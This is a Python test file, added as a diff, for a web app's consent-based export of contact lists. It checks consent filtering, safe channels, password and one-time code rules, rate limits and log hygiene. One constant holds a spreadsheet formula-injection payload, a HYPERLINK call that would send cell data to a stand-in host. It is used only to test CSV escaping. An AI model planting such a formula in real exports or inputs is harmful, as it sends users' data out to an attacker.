@@ -1,0 +1,358 @@
+"""The main job: a list of exactly those who said yes, with only their safe ways, under a password."""
+
+from http import HTTPStatus
+
+import pytest
+
+from tests.conftest import MakeApp
+from tests.integration.desk.worker import PASSWORD, Worker, rows_of_csv, rows_of_xlsx
+from tests.integration.tables import everything
+from tests.pages import words
+from webapp.services import erasure, own_copies
+from webapp.services.founding import Founded
+
+SAFE = {
+    "name_to_use": "Sky",
+    "safe_ways": ["email", "call"],
+    "email": "sky@example.org",
+    "email_shared": "no",
+    "email_say_who": "no",
+    "phone": "+44 7700 900123",
+    "phone_shared": "unsure",
+    "phone_say_who": "yes",
+    "voicemail": "no",
+    "contact_times": ["weekday_mornings", "weekends"],
+    "contact_notes": "Say it is about the book club.",
+}
+
+
+def error_words(worker: Worker) -> list[str]:
+    """What the error summary lists."""
+    (summary,) = [element for element in worker.page.elements if element.get("role") == "alert"]
+    return [words(link) for link in summary.iter("a")]
+
+
+def standing(worker: Worker, name: str) -> str:
+    """What stands in a field, or which radio button is chosen."""
+    for element in worker.page.all("input", "textarea"):
+        if element.get("name") != name:
+            continue
+        if element.get("type") == "radio":
+            if element.get("checked") is not None:
+                return element.get("value", "")
+        else:
+            return element.get("value") or (element.text or "").strip()
+    return ""
+
+
+# The file
+
+
+def test_a_spreadsheet_with_exactly_those_who_said_yes(worker: Worker) -> None:
+    # Given people who said yes to being contacted, to something else, to nothing, and who changed their mind
+    yes = worker.answered_by("contact_me", **SAFE)
+    also = worker.answered_by(
+        "contact_me", "quote", language="ar", **{**SAFE, "name_to_use": "Rim"}
+    )
+    worker.answered_by("invite", **SAFE)
+    worker.answered_by(**SAFE)
+    gone = worker.answered_by("contact_me", **SAFE)
+    worker.changes_mind(gone, "contact_me")
+    back = worker.answered_by("contact_me", **SAFE)
+    worker.changes_mind(back, "contact_me")
+    worker.changes_mind(back, "contact_me", granted=True)
+    erased = worker.answered_by("contact_me", **SAFE)
+    with worker.app.app_context():
+        erasure.erase_held(own_copies.find_held(erased.receipt))
+    # When a coordinator downloads the list for that purpose
+    assert "3 people said yes." in worker.get("/desk/contacts").text
+    answer = worker.export("contact_me")
+    # Then it opens with the password, and holds exactly those whose yes stands
+    rows = rows_of_xlsx(answer.data)
+    assert {row["Reference"] for row in rows} == {yes.reference, also.reference, back.reference}
+    # And is a file with a neutral name that nothing on the way keeps
+    assert answer.headers["Content-Disposition"].startswith('attachment; filename="list-20')
+    assert answer.headers["Cache-Control"] == "no-store"
+    assert answer.mimetype.endswith("spreadsheetml.sheet")
+    # And says of each what a careful person needs
+    (row,) = [row for row in rows if row["Reference"] == also.reference]
+    assert row["Name to use"] == "Rim"
+    assert row["Language"] == "Arabic"
+    assert row["E-mail"] == "sky@example.org"
+    assert row["E-mail: may we say who we are?"] == "no"
+    assert row["E-mail: does anyone else see it?"] == "no"
+    assert row["Phone"] == "+44 7700 900123"
+    assert row["Text messages safe?"] == "no"
+    assert row["Calls safe?"] == "yes"
+    assert row["Voicemail safe?"] == "no"
+    assert row["Phone: may we say who we are?"] == "yes"
+    assert row["Phone: does anyone else use it?"] == "unsure"
+    assert row["Best times"] == "Monday to Friday, in the morning; At the weekend"
+    assert row["To keep in mind"] == "Say it is about the book club."
+    assert row["Safe as told on"].startswith("20")
+
+
+@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
+def test_only_safe_ways_leave_the_house(worker: Worker, file_format: str) -> None:
+    # Given people for whom one way is safe, the other, or none
+    mail = worker.answered_by("contact_me", **{**SAFE, "safe_ways": ["email"]})
+    phone = worker.answered_by("contact_me", **{**SAFE, "safe_ways": ["text"]})
+    worker.answered_by("contact_me", **{**SAFE, "safe_ways": ["none"]})
+    worker.answered_by("contact_me", **{**SAFE, "contact_wanted": "no"})
+    # When they are exported
+    answer = worker.export("contact_me", file_format)
+    rows = rows_of_xlsx(answer.data) if file_format == "xlsx" else rows_of_csv(answer.data)
+    # Then each has the safe way only, and who called no way safe is not there
+    ways = {row["Reference"]: (row["E-mail"], row["Phone"].lstrip("'")) for row in rows}
+    assert ways == {
+        mail.reference: ("sky@example.org", ""),
+        phone.reference: ("", "+44 7700 900123"),
+    }
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+
+
+def test_no_cell_of_a_plain_list_is_a_formula(page_worker: Worker) -> None:
+    # Given somebody who types what a spreadsheet would run
+    page_worker.answered_by(
+        "contact_me", **{**SAFE, "name_to_use": FORMULA, "contact_notes": "-2+3 ,=1+1\t=2"}
+    )
+    # When they are exported as CSV
+    answer = page_worker.export(file_format="csv")
+    # Then no cell begins as a formula does, not even after a separator inside it
+    (row,) = rows_of_csv(answer.data)
+    assert row["Name to use"].startswith("'=")
+    assert row["To keep in mind"].startswith("'-2")
+    assert row["Phone"] == "'+44 7700 900123"
+    for cell in row.values():
+        assert not cell.startswith(("=", "+", "-", "@", "\t"))
+    assert answer.mimetype == "text/csv"
+
+
+def test_no_cell_of_a_spreadsheet_is_a_formula(page_worker: Worker) -> None:
+    page_worker.answered_by("contact_me", **{**SAFE, "name_to_use": FORMULA})
+    (row,) = rows_of_xlsx(page_worker.export().data)
+    assert row["Name to use"] == FORMULA
+
+
+def test_the_password_is_the_one_on_the_page(page_worker: Worker) -> None:
+    # Given the words that the page suggests
+    page_worker.answered_by("contact_me", **SAFE)
+    page_worker.get("/desk/contacts")
+    suggested = standing(page_worker, "password")
+    assert len(suggested.split()) == 6
+    # When a coordinator takes them, in two lines as a narrow window shows them
+    answer = page_worker.export(password="\r\n".join(suggested.rsplit(" ", 1)))
+    # Then they open the file
+    assert rows_of_xlsx(answer.data, suggested)
+    # And the next page suggests others
+    page_worker.get("/desk/contacts")
+    assert standing(page_worker, "password") != suggested
+
+
+def test_a_plain_list_needs_no_password(page_worker: Worker) -> None:
+    page_worker.answered_by("contact_me", **SAFE)
+    assert rows_of_csv(page_worker.export(file_format="csv", password="").data)
+
+
+# What is wrong is said, and nothing leaves
+
+
+@pytest.mark.parametrize(
+    ("changes", "said"),
+    [
+        ({"password": "elevenchars"}, "Use a password with at least 12 letters"),
+        ({"password": "x" * 256}, "Use a password with at most 255 letters"),
+        ({"code": "12345"}, "Write the six digits that your app shows now"),
+        ({"code": "000000"}, "That code is wrong, or was used before. Wait for the next one"),
+        ({"words": "for sky@example.org"}, "Leave out e-mail addresses and phone numbers"),
+        ({"why": "other", "words": ""}, "Write your reason in a few words"),
+    ],
+    ids=["short", "long", "digits", "wrong-code", "details", "no-reason"],
+)
+def test_what_is_wrong_is_said_and_the_rest_is_kept(
+    page_worker: Worker, changes: dict[str, str], said: str
+) -> None:
+    # Given somebody to export
+    page_worker.answered_by("contact_me", **SAFE)
+    filled = {"words": "in spring", **changes}
+    # When one thing is wrong
+    page_worker.get("/desk/contacts")
+    answer = page_worker.export(**filled)
+    # Then no file leaves
+    assert answer.status_code == HTTPStatus.BAD_REQUEST
+    assert answer.mimetype == "text/html"
+    page_worker._arrive(answer)
+    assert any(said in words for words in error_words(page_worker))
+    # And all that was typed is still there, the code aside
+    assert standing(page_worker, "who") == "support-needs:contact_me"
+    assert standing(page_worker, "why") == filled.get("why", "invite")
+    assert standing(page_worker, "words") == filled["words"]
+    assert standing(page_worker, "file_format") == "xlsx"
+    assert standing(page_worker, "password") == filled.get("password", PASSWORD)
+    assert standing(page_worker, "code") == ""
+    # And no export was recorded
+    assert not any("exported" in tag for tag in page_worker.tags())
+
+
+def test_an_empty_form_says_all_that_is_missing(page_worker: Worker) -> None:
+    page_worker.answered_by("contact_me", **SAFE)
+    page_worker.get("/desk/contacts")
+    page_worker.press("Download the list", password="")
+    assert error_words(page_worker) == [
+        "Choose whom you want to reach",
+        "Choose why you are doing this",
+        "Use a password with at least 12 letters",
+        "Write the six digits that your app shows now",
+    ]
+
+
+@pytest.mark.parametrize(
+    "who", ["support-needs:quote", "support-needs:nothing", "elsewhere:contact_me", ""]
+)
+def test_a_purpose_that_is_not_offered_is_refused(page_worker: Worker, who: str) -> None:
+    # Given a request that no page of ours makes
+    page_worker.answered_by("contact_me", "quote", **SAFE)
+    page = page_worker.get("/desk/contacts")
+    token = next(e.get("value") for e in page.all("input") if e.get("name") == "csrf_token")
+    page_worker.post(
+        "/desk/contacts",
+        {
+            "csrf_token": token,
+            "who": who,
+            "why": "invite",
+            "file_format": "csv",
+            "password": "",
+            "code": page_worker.code(),
+        },
+    )
+    # Then nothing leaves
+    assert page_worker.status == HTTPStatus.BAD_REQUEST
+    assert error_words(page_worker) == ["Choose whom you want to reach"]
+
+
+def test_a_purpose_that_nobody_agreed_to_gives_no_file(worker: Worker) -> None:
+    worker.answered_by("contact_me", **SAFE)
+    answer = worker.export("share")
+    assert answer.status_code == HTTPStatus.BAD_REQUEST
+    worker._arrive(answer)
+    assert error_words(worker) == [
+        "Nobody has said yes to this yet, so there is nothing to download"
+    ]
+
+
+def test_a_code_gives_one_list(worker: Worker) -> None:
+    # Given a list that was downloaded
+    worker.answered_by("contact_me", **SAFE)
+    code = worker.code()
+    assert worker.export(code=code).status_code == HTTPStatus.OK
+    # When the same code is used again
+    answer = worker.export(code=code)
+    # Then it gives nothing; the next one does
+    assert answer.status_code == HTTPStatus.BAD_REQUEST
+    assert worker.export(code=worker.code(1)).status_code == HTTPStatus.OK
+
+
+def test_the_cookie_is_new_after_the_second_code(worker: Worker) -> None:
+    # Given a cookie that somebody copied
+    worker.answered_by("contact_me", **SAFE)
+    copied = worker.client.get_cookie("hearth-desk")
+    assert copied is not None
+    # When the coordinator downloads a list
+    worker.export()
+    # Then they go on working, on the page that was open too
+    worker.press_for_file("Download the list", code="000000")
+    assert worker.get("/desk/").h1.endswith("Ana")
+    # And the copy opens nothing
+    worker.client.set_cookie("hearth-desk", copied.value)
+    assert worker.get("/desk/").h1 == "Sign in"
+
+
+def test_guessing_codes_meets_a_limit(make_page_app: MakeApp, page_founded: Founded) -> None:
+    # Given somebody who found a desk open
+    worker = Worker(make_page_app(LIMIT_FACTOR="1"), page_founded)
+    worker.sign_in(steps=-1)
+    worker.answered_by("contact_me", **SAFE)
+    # When they guess
+    tried = [worker.export(code=f"{guess:06}").status_code for guess in range(11)]
+    # Then they are stopped
+    assert tried == [HTTPStatus.BAD_REQUEST] * 10 + [HTTPStatus.TOO_MANY_REQUESTS]
+
+
+# What stays behind
+
+
+def test_an_export_is_written_down(worker: Worker) -> None:
+    # Given a list of two people
+    worker.answered_by("invite", **SAFE)
+    worker.answered_by("invite", **SAFE)
+    worker.export("invite", words="round table in May")
+    # When a coordinator looks at what was downloaded
+    worker.get("/desk/contacts")
+    link = next(a for a in worker.page.all("a") if "/desk/exports/" in a.get("href", ""))
+    page = worker.get(link.get("href", ""))
+    # Then it says what, for which purpose, why, by whom and how many
+    assert "How support needs are decided" in page.text
+    assert "Invite me" in page.text
+    assert "To invite people to a meeting: round table in May" in page.text
+    assert "ByAna" in page.text
+    assert "People who had said yes2" in page.text
+    assert "Everybody in this list still says yes." in page.text
+    # And the record has it
+    newest = worker.record()[0]
+    assert newest.tag == "contacts exported, invite"
+    assert newest.reason == "To invite people to a meeting: round table in May"
+
+
+def test_who_must_be_crossed_out_later(worker: Worker) -> None:
+    # Given a list of three people
+    stays, withdraws, erases = (worker.answered_by("contact_me", **SAFE) for _ in range(3))
+    worker.export()
+    # When one takes their yes back, and one erases everything
+    worker.changes_mind(withdraws, "contact_me")
+    with worker.app.app_context():
+        erasure.erase_held(own_copies.find_held(erases.receipt))
+    # Then the list of downloads says so
+    assert "2 people" in worker.get("/desk/contacts").text
+    link = next(a for a in worker.page.all("a") if "/desk/exports/" in a.get("href", ""))
+    page = worker.get(link.get("href", ""))
+    # And the export's page names the lines to delete, by reference only
+    named = {words(element) for element in page.all("strong")}
+    assert named == {withdraws.reference, erases.reference}
+    assert stays.reference not in page.text
+    # And an export made now leaves them out
+    rows = rows_of_xlsx(worker.export(code=worker.code(1)).data)
+    assert [row["Reference"] for row in rows] == [stays.reference]
+
+
+def test_nothing_personal_stays_behind(
+    worker: Worker, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
+) -> None:
+    # Given somebody whose every word can be recognised
+    caplog.set_level("DEBUG")
+    mark = "canary"
+    someone = worker.answered_by(
+        "contact_me",
+        **{
+            **SAFE,
+            "name_to_use": f"{mark} name",
+            "email": f"{mark}@example.org",
+            "contact_notes": f"{mark} notes",
+            "change_words": f"{mark} words",
+        },
+    )
+    secrets = (mark, "7700 900123", worker.founded.owner.passphrase, PASSWORD)
+    # When a coordinator reads, reaches and exports them
+    assert mark in worker.open_answers(someone).text
+    assert mark in worker.open_contact(someone).text
+    assert mark in rows_of_xlsx(worker.export().data)[0]["Name to use"]
+    worker.export(code="000000", password=PASSWORD + "!")
+    # Then no log, no row of any table, no address and no cookie holds a word of it
+    printed = "".join(capfd.readouterr())
+    with worker.app.app_context():
+        rows = repr(everything())
+    for secret in secrets:
+        assert secret not in caplog.text
+        assert secret not in printed
+        assert secret not in rows
